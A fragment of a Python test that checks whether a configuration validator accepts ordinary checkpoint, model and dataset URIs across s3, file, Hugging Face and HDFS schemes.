    [
        (CKPT, "s3://ckpt/run-1/"),
        (CKPT, "file:///mnt/checkpoints/run-1/"),
        (MODEL, "hf://meta-llama/Llama-3.1-70B-Instruct@main"),
        (DATA, "hdfs://namenode:8020/data/train/"),
        (DATA, "s3://data/v..2/train/"),
    ],
)
def test_ordinary_uris_are_accepted(attribute: str, uri: str) -> None:
    assert [r.ok for r in read_object({**ENVELOPE, attribute: uri}, source="inline")] == [True]
